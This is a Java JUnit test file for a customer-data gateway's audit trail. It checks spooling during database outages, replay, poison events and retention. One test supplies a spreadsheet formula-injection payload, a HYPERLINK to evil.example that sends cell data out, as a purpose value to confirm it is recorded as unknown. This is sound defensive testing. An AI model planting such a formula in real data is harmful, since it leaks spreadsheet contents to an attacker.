package io.customerdata.gateway.audit;

import java.io.IOException;
import java.io.PrintWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.SQLFeatureNotSupportedException;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.logging.Logger;

import javax.sql.DataSource;

import io.customerdata.gateway.problem.GatewayProblem;
import io.customerdata.gateway.problem.ProblemType;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import io.netty.channel.EventLoop;
import io.netty.channel.EventLoopGroup;
import io.netty.channel.MultiThreadIoEventLoopGroup;
import io.netty.channel.nio.NioIoHandler;
import org.flywaydb.core.Flyway;
import org.h2.jdbcx.JdbcDataSource;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import reactor.core.publisher.Flux;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.jdbc.datasource.DataSourceTransactionManager;
import org.springframework.transaction.support.TransactionTemplate;
import org.springframework.util.unit.DataSize;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.awaitility.Awaitility.await;

/**
 * The audit trail's promise, against a real (embedded) database whose connections can be
 * cut: every event is in the database or the spool before {@code record} completes; the
 * spool drains when the database returns, also after a restart; a full spool refuses.
 */
@ExtendWith(OutputCaptureExtension.class)
class AuditTrailTests {

	static final JsonMapper JSON = JsonMapper.builder().build();

	static final Set<String> KNOWN_PURPOSES = Set.of("account-management", "support-case");

	@TempDir
	Path spoolDirectory;

	final Switchable database = new Switchable(h2());

	final SimpleMeterRegistry meters = new SimpleMeterRegistry();

	AuditRepository repository;

	AuditTrail trail;

	@BeforeEach
	void start() {
		Flyway.configure().dataSource(this.database).load().migrate();
		this.repository = new AuditRepository(this.database,
				new TransactionTemplate(new DataSourceTransactionManager(this.database)));
		this.trail = trail(DataSize.ofMegabytes(1));
	}

	@AfterEach
	void stop() {
		this.trail.stop();
	}

	@Test
	void anEventIsInTheDatabaseWhenRecordingCompletes() {
		this.trail.record(event("alice")).block();

		assertThat(this.repository.count()).isEqualTo(1);
		assertThat(this.meters.get("gateway.audit.events").tag("outcome", "written").counter().count()).isEqualTo(1);
	}

	@Test
	void recordingCompletesOnlyOnceTheEventIsCommitted() throws Exception {
		this.database.hold();
		CompletableFuture<Void> recorded = this.trail.record(event("alice")).toFuture();
		// The writer has the event and waits for the database.
		assertThat(this.database.reached.await(5, TimeUnit.SECONDS)).isTrue();
		assertThat(recorded).isNotDone();

		this.database.release();
		recorded.get(5, TimeUnit.SECONDS);
		assertThat(this.repository.count()).isEqualTo(1);
	}

	@Test
	void aRequestOnAnEventLoopIsResumedOnThatEventLoop() throws Exception {
		EventLoopGroup group = new MultiThreadIoEventLoopGroup(1, NioIoHandler.newFactory());
		try {
			EventLoop eventLoop = group.next();
			// Classes are loaded (from the jar: a blocking read BlockHound refuses on an
			// event loop) by a first event off the loop.
			this.trail.record(event("warm-up")).block();
			AuditEvent event = event("alice");
			CompletableFuture<Boolean> resumedThere = new CompletableFuture<>();
			eventLoop.execute(() -> this.trail.record(event)
				.doOnSuccess((done) -> resumedThere.complete(eventLoop.inEventLoop()))
				.subscribe(null, resumedThere::completeExceptionally));
			assertThat(resumedThere.get(5, TimeUnit.SECONDS)).isTrue();
		}
		finally {
			group.shutdownGracefully(0, 1, TimeUnit.SECONDS);
		}
	}

	@Test
	void whileTheDatabaseIsAwayEventsAreSpooledAndLaterReplayedExactlyOnce() {
		this.database.down.set(true);
		Flux.range(0, 50).flatMap((i) -> this.trail.record(event("user-" + i))).blockLast(Duration.ofSeconds(20));
		assertThat(spoolDepth()).isEqualTo(50);

		this.database.down.set(false);

		// The spool forgets a batch just after the database has committed it.
		await().atMost(Duration.ofSeconds(10)).until(() -> this.repository.count() == 50 && spoolDepth() == 0);
		assertThat(this.repository.count()).isEqualTo(50);
		assertThat(this.meters.get("gateway.audit.spool.drained").counter().count()).isEqualTo(50);
	}

	@Test
	void aFullSpoolRefusesRatherThanLoseAnEvent() {
		this.trail.stop();
		this.trail = trail(DataSize.ofKilobytes(4));
		this.database.down.set(true);

		List<Throwable> refusals = new ArrayList<>();
		int recorded = 0;
		for (int i = 0; i < 40; i++) {
			try {
				this.trail.record(event("user-" + i)).block(Duration.ofSeconds(10));
				recorded++;
			}
			catch (GatewayProblem ex) {
				refusals.add(ex);
			}
		}

		assertThat(recorded).isPositive();
		assertThat(refusals).isNotEmpty()
			.allSatisfy((ex) -> assertThat(((GatewayProblem) ex).type()).isEqualTo(ProblemType.AUDIT_UNAVAILABLE));
		this.database.down.set(false);
		int durable = recorded;
		await().atMost(Duration.ofSeconds(10)).until(() -> this.repository.count() == durable);
	}

	@Test
	void aRefusalThatCannotBeAuditedIsCountedAndLoggedWithoutCustomerData(CapturedOutput output) {
		this.trail.stop();
		this.trail = trail(DataSize.ofKilobytes(2));
		this.database.down.set(true);
		for (int i = 0; i < 20; i++) {
			try {
				this.trail.record(event("filler-" + i)).block(Duration.ofSeconds(10));
			}
			catch (GatewayProblem ex) {
				// the spool is full now
			}
		}
		AuditEvent refusal = AuditEvent.of("carol", "view")
			.caller("carol-id", List.of("support-agent"), "customer-gateway-demo")
			.purpose("support-case")
			.records(List.of("crm:ACC-000042"))
			.decision(AuditEvent.DENY, "out-of-region", "2026-11-25.1", null)
			.build(403);

		assertThatExceptionOfType(GatewayProblem.class)
			.isThrownBy(() -> this.trail.record(refusal).block(Duration.ofSeconds(10)));

		assertThat(this.meters.get("gateway.audit.unauditable.refusals").counter().count()).isEqualTo(1);
		assertThat(output).contains("Unauditable refusal: id=" + refusal.id() + " subject=carol action=view")
			.contains("reason=out-of-region status=403")
			.doesNotContain("ACC-000042");
	}

	@Test
	void aRestartWithASpooledEventDrainsItAfterStart() {
		this.database.down.set(true);
		this.trail.record(event("before-restart")).block(Duration.ofSeconds(10));
		this.trail.stop();
		this.database.down.set(false);
		assertThat(this.repository.count()).as("only in the spool").isZero();

		this.trail = trail(DataSize.ofMegabytes(1));

		await().atMost(Duration.ofSeconds(10)).until(() -> this.repository.count() == 1);
	}

	@Test
	void aPoisonEventAmongOthersIsWrittenAsMalformedAndTheOthersAsMade() {
		AuditEvent poison = poison("mallory");
		List<AuditEvent> others = new ArrayList<>();
		for (int i = 0; i < 100; i++) {
			others.add(event("user-" + i));
		}
		List<AuditEvent> all = new ArrayList<>(others);
		all.add(50, poison);

		Flux.fromIterable(all).flatMap(this.trail::record).blockLast(Duration.ofSeconds(10));

		assertThat(this.repository.count()).isEqualTo(101);
		assertThat(spoolDepth()).isZero();
		JsonNode stored = stored(poison);
		assertThat(stored.path("malformed").asString()).startsWith("refused by the database: ")
			.contains("SQLState 22001")
			.contains("1 record reference(s) too long to keep");
		assertThat(stored.path("records").toString()).isEqualTo("[\"support:310000\"]");
		assertThat(stored.path("decision").asString()).isEqualTo(AuditEvent.ALLOW);
		assertThat(stored(others.get(0)).has("malformed")).isFalse();
		assertThat(this.meters.get("gateway.audit.events.malformed").counter().count()).isEqualTo(1);
	}

	@Test
	void aBatchWithSeveralPoisonEventsKeepsEveryOtherEventIntact() {
		List<AuditEvent> all = new ArrayList<>();
		for (int i = 0; i < 18; i++) {
			all.add((i % 6 == 0) ? poison("mallory-" + i) : event("user-" + i));
		}
		this.database.hold();
		List<CompletableFuture<Void>> recorded = all.stream().map((e) -> this.trail.record(e).toFuture()).toList();
		// One batch: the writer holds them all while it waits for the database.
		this.database.release();
		CompletableFuture.allOf(recorded.toArray(CompletableFuture[]::new)).join();

		assertThat(all).allSatisfy(
				(event) -> assertThat(stored(event).has("malformed")).isEqualTo(event.subject().startsWith("mallory")));
		assertThat(this.meters.get("gateway.audit.events.malformed").counter().count()).isEqualTo(3);
	}

	@Test
	void aPoisonEventInTheSpoolIsWrittenAsMalformedAfterARestartAndTheRestAsMade() throws IOException {
		this.database.down.set(true);
		AuditEvent poison = poison("mallory");
		List<AuditEvent> spooled = new ArrayList<>();
		for (int i = 0; i < 10; i++) {
			spooled.add(event("user-" + i));
		}
		spooled.add(poison);
		Flux.fromIterable(spooled).concatMap(this.trail::record).blockLast(Duration.ofSeconds(10));
		this.trail.stop();
		assertThat(spoolDepth()).isEqualTo(11);
		this.database.down.set(false);

		this.trail = trail(DataSize.ofMegabytes(1));

		// (The spool's gauge is the first trail's, so the file says what is left.)
		await().atMost(Duration.ofSeconds(5)).until(() -> this.repository.count() == 11 && spoolFileEmpty());
		assertThat(stored(poison).has("malformed")).isTrue();
		// Later events go to the database, not to the spool behind the poison.
		this.trail.record(event("later")).block(Duration.ofSeconds(5));
		assertThat(this.repository.count()).isEqualTo(12);
		assertThat(spoolFileEmpty()).isTrue();
	}

	@Test
	void anUnreadableSpoolLineIsRecordedAsMalformedAndTheRestReplayed() throws IOException {
		this.trail.stop();
		AuditEvent spooled = event("alice");
		Files.writeString(this.spoolDirectory.resolve("audit-spool.jsonl"),
				JSON.writeValueAsString(spooled) + "\n{\"id\": \"cut short by a cr\n");

		this.trail = trail(DataSize.ofMegabytes(1));

		await().atMost(Duration.ofSeconds(5)).until(() -> this.repository.count() == 2 && spoolFileEmpty());
		assertThat(stored(spooled).has("malformed")).isFalse();
		assertThat(this.meters.get("gateway.audit.events.malformed").counter().count()).isEqualTo(1);
		JsonNode unreadable = JSON.readTree(
				new AuditSearch(this.database).find(new AuditQuery(null, "unknown", null, null, null, null, null), 0)
					.blockFirst());
		assertThat(unreadable.path("malformed").asString()).startsWith("unreadable spool line of 25 characters");
	}

	@Test
	void aPurposeThePolicyDoesNotKnowIsRecordedAsUnknown() {
		AuditEvent formula = AuditEvent.of("mallory", "view")
			.purpose("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")")
			.decision(AuditEvent.DENY, "unknown-purpose", null, null)
			.build(400);
		AuditEvent known = event("alice");

		this.trail.record(formula).block();
		this.trail.record(known).block();

		assertThat(stored(formula).path("purpose").asString()).isEqualTo(AuditEvent.UNKNOWN_PURPOSE);
		assertThat(stored(known).path("purpose").asString()).isEqualTo("account-management");
	}

	@Test
	void eventsAreStoredAsNamesNeverValues() throws IOException {
		this.trail.record(event("alice")).block();

		String stored = new AuditSearch(this.database).find(new AuditQuery(null, null, null, null, null, null, null), 0)
			.blockFirst();
		assertThat(JSON.readTree(stored).path("disclosed").toString()).isEqualTo("[\"customer.name\"]");
		assertThat(Files.readString(this.spoolDirectory.resolve("audit-spool.jsonl"))).isEmpty();
	}

	@Test
	void retentionDeletesOldEventsAndAuditsThePurge() {
		AuditEvent recent = event("recent");
		AuditEvent old = new AuditEvent(UUID.randomUUID(), Instant.now().minus(Duration.ofDays(500)), "old", null,
				List.of(), null, null, "view", List.of("crm:ACC-000001"), Map.of(), List.of(), List.of(), List.of(),
				AuditEvent.ALLOW, "granted", null, null, null, 200, 1, null, null, null, null);
		this.trail.record(recent).block();
		this.trail.record(old).block();

		int deleted = new AuditRetention(this.repository, this.trail, Duration.ofDays(400), Duration.ofHours(1))
			.purge();

		assertThat(deleted).isEqualTo(1);
		List<String> left = new AuditSearch(this.database)
			.find(new AuditQuery(null, null, null, null, null, null, null), 0)
			.map((json) -> JSON.readTree(json).path("subject").asString())
			.collectList()
			.block();
		assertThat(left).containsExactlyInAnyOrder("recent", "gateway");
		JsonNode purge = JSON.readTree(
				new AuditSearch(this.database).find(new AuditQuery(null, "gateway", null, null, null, null, null), 0)
					.blockFirst());
		assertThat(purge.path("action").asString()).isEqualTo("purge");
		assertThat(purge.path("purged").asInt()).isEqualTo(1);
	}

	private AuditTrail trail(DataSize spool) {
		AuditProperties properties = new AuditProperties(true, true, 20, 1000, Duration.ofMillis(300),
				Duration.ofDays(400), Duration.ofHours(1), new AuditProperties.Spool(this.spoolDirectory, spool));
		AuditTrail started = new AuditTrail(this.repository, new AuditSpool(this.spoolDirectory, spool.toBytes()), JSON,
				properties, KNOWN_PURPOSES::contains, this.meters);
		started.start();
		return started;
	}

	private JsonNode stored(AuditEvent event) {
		return JSON.readTree(new AuditSearch(this.database)
			.find(new AuditQuery(null, event.subject(), null, null, null, null, null), 0)
			.filter((json) -> JSON.readTree(json).path("id").asString().equals(event.id().toString()))
			.blockFirst());
	}

	/** An event with a record id longer than the schema holds. */
	static AuditEvent poison(String subject) {
		return AuditEvent.of(subject, "view")
			.caller(UUID.randomUUID().toString(), List.of("sales-rep"), "customer-gateway-demo")
			.purpose("account-management")
			.records(List.of("crm:" + "x".repeat(300), "support:310000"))
			.decision(AuditEvent.ALLOW, "granted", "2026-11-25.1", null)
			.build(200);
	}

	private boolean spoolFileEmpty() throws IOException {
		return Files.size(this.spoolDirectory.resolve("audit-spool.jsonl")) == 0;
	}

	private double spoolDepth() {
		return this.meters.get("gateway.audit.spool.depth").gauge().value();
	}

	static AuditEvent event(String subject) {
		return AuditEvent.of(subject, "view")
			.caller(UUID.randomUUID().toString(), List.of("sales-rep"), "customer-gateway-demo")
			.purpose("account-management")
			.records(List.of("crm:ACC-000001", "support:310000"))
			.sources(Map.of("crm", "ok"))
			.fields(List.of("customer.name"), List.of("crm:customer.emails"), List.of("crm:sales.notes"))
			.decision(AuditEvent.ALLOW, "granted", "2026-11-25.1", UUID.randomUUID().toString())
			.build(200);
	}

	private static DataSource h2() {
		JdbcDataSource h2 = new JdbcDataSource();
		h2.setURL("jdbc:h2:mem:audit-" + UUID.randomUUID()
				+ ";MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;DEFAULT_NULL_ORDERING=HIGH;DB_CLOSE_DELAY=-1");
		return h2;
	}

	/** A database whose connections can be made to fail, as a network cut does. */
	static final class Switchable implements DataSource {

		final AtomicBoolean down = new AtomicBoolean();

		private volatile CountDownLatch held = new CountDownLatch(0);

		/** Counted down when a connection is asked for while held. */
		final CountDownLatch reached = new CountDownLatch(1);

		private final DataSource target;

		Switchable(DataSource target) {
			this.target = target;
		}

		/** Connections wait, as for a database that is slow to answer. */
		void hold() {
			this.held = new CountDownLatch(1);
		}

		void release() {
			this.held.countDown();
		}

		@Override
		public Connection getConnection() throws SQLException {
			try {
				if (this.held.getCount() > 0) {
					this.reached.countDown();
				}
				this.held.await();
			}
			catch (InterruptedException ex) {
				Thread.currentThread().interrupt();
				throw new SQLException("interrupted (test)", ex);
			}
			if (this.down.get()) {
				throw new SQLException("connection refused (test)");
			}
			return this.target.getConnection();
		}

		@Override
		public Connection getConnection(String username, String password) throws SQLException {
			return getConnection();
		}

		@Override
		public PrintWriter getLogWriter() {
			return null;
		}

		@Override
		public void setLogWriter(PrintWriter out) {
		}

		@Override
		public void setLoginTimeout(int seconds) {
		}

		@Override
		public int getLoginTimeout() {
			return 0;
		}

		@Override
		public Logger getParentLogger() throws SQLFeatureNotSupportedException {
			throw new SQLFeatureNotSupportedException();
		}

		@Override
		public <T> T unwrap(Class<T> type) throws SQLException {
			throw new SQLException("not a wrapper");
		}

		@Override
		public boolean isWrapperFor(Class<?> type) {
			return false;
		}

	}

}
